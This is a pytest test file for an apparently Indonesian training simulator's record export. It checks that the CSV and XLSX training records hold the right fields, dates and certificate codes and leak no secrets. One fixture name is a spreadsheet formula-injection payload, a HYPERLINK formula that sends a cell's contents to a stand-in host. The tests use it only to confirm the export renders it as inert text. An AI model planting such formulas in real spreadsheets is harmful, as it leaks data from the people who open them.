"""The training record (#23 item 3): the fields an agency files, safe to open in a spreadsheet."""

from __future__ import annotations

import datetime as dt

import openpyxl
import pandas as pd
import pytest

from kinerja_sim.cli import main
from kinerja_sim.pack import certificates as pack
from kinerja_sim.pack.record import RECORD_COLUMNS, record_table, write_record
from kinerja_sim.training.progress import ProgressStore
from kinerja_sim.training.workshop_info import (
    WorkshopInfo,
    load_workshop_info,
    save_workshop_info,
    set_trainee_details,
)

HEADERS = [
    "Nama",
    "NIP",
    "Nama pelatihan",
    "Jumlah JP",
    "Tanggal mulai",
    "Tanggal selesai",
    "Penyelenggara",
    "Tempat",
    "Kode sertifikat",
    "Latihan yang diselesaikan",
    "Nama dikonfirmasi peserta",
]
FORMULA_NAME = '=HYPERLINK("http://x?d="&A2,"klik")'


@pytest.fixture
def store_path(tmp_path):
    path = tmp_path / "hari.sqlite"
    store = ProgressStore(path)
    store.submit("Siti Rahma", "01_perbaiki_indikator", "1", {"iki": "x"}, score=1.0)
    store.submit("Siti Rahma", "02_nilai_berkas_kasus", "k1", {"scores": {}}, score=0.7)
    store.submit(FORMULA_NAME + "\x01", "03_kenali_bias", "b1", {"choice": "halo"}, score=0.0)
    store.remember_trainee("Belum Mengerjakan")
    save_workshop_info(
        path,
        WorkshopInfo(
            "Pelatihan Pejabat Penilai Kinerja",
            "BKPSDM Kabupaten Sukamaju",
            "Sukamaju",
            "2026-12-03",
            "2026-12-03",
            hours=8,
        ),
    )
    set_trainee_details(
        path, "siti rahma", confirmed_name="Siti Rahmawati, S.E.", nip="199001012015032001"
    )
    return path


def test_the_record_has_one_row_per_completion_with_the_fields_of_a_training_record(store_path):
    table = record_table(store_path)
    assert list(table.columns) == list(RECORD_COLUMNS)
    assert len(table) == 2  # the trainee who answered nothing has no row
    siti = table.set_index("name").loc["Siti Rahmawati, S.E."]
    assert siti["nip"] == "199001012015032001"
    assert siti["course_title"] == "Pelatihan Pejabat Penilai Kinerja"
    assert siti["hours"] == 8 and siti["start"] == siti["end"] == dt.date(2026, 12, 3)
    assert siti["organiser"] == "BKPSDM Kabupaten Sukamaju" and siti["place"] == "Sukamaju"
    assert siti["exercises_completed"] == (
        "Latihan 1: memperbaiki indikator; Latihan 2: menilai berkas kasus"
    )
    assert bool(siti["name_confirmed"])
    assert pack.normalise_code(siti["certificate_code"]) == siti["certificate_code"]


def test_the_csv_has_indonesian_headers_iso_dates_and_inert_text(store_path, tmp_path):
    path = write_record(store_path, tmp_path / "catatan.csv")
    table = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert list(table.columns) == HEADERS
    assert set(table["Tanggal mulai"]) == {"2026-12-03"}
    names = set(table["Nama"])
    assert "'" + FORMULA_NAME in names  # a formula is text, its control character gone
    assert not any("\x01" in cell for cell in table.to_numpy().ravel())
    assert set(table["Nama dikonfirmasi peserta"]) == {"ya", "tidak"}


def test_the_workbook_keeps_the_name_exactly_but_never_as_a_formula(store_path, tmp_path):
    path = write_record(store_path, tmp_path / "catatan.xlsx")
    sheet = openpyxl.load_workbook(path).active
    assert [cell.value for cell in sheet[1]] == HEADERS
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    formula = [cell for cell in cells if cell.value == FORMULA_NAME]
    assert len(formula) == 1 and formula[0].data_type == "s" and formula[0].quotePrefix


def test_the_record_holds_nothing_but_its_fields(store_path, tmp_path):
    path = write_record(store_path, tmp_path / "catatan.csv")
    text = path.read_text(encoding="utf-8")
    assert load_workshop_info(store_path).secret not in text
    cells = set(pd.read_csv(path, dtype=str, keep_default_na=False).to_numpy().ravel())
    assert "Siti Rahma" not in cells  # the sign-in name behind the confirmed one
    assert "halo" not in text and "0.7" not in text  # answers and scores


def test_a_code_in_the_record_verifies(store_path, tmp_path):
    path = write_record(store_path, tmp_path / "catatan.csv")
    codes = pd.read_csv(path, dtype=str)["Kode sertifikat"]
    assert all(pack.verify(code, store_path).valid for code in codes)


def test_the_command_writes_the_record_and_refuses_another_format(store_path, tmp_path, capsys):
    assert main(["record", "--store", str(store_path), "--out", str(tmp_path / "r.xlsx")]) == 0
    assert (tmp_path / "r.xlsx").exists()
    assert main(["record", "--store", str(store_path), "--out", str(tmp_path / "r.ods")]) == 2
    assert ".csv atau .xlsx" in capsys.readouterr().err
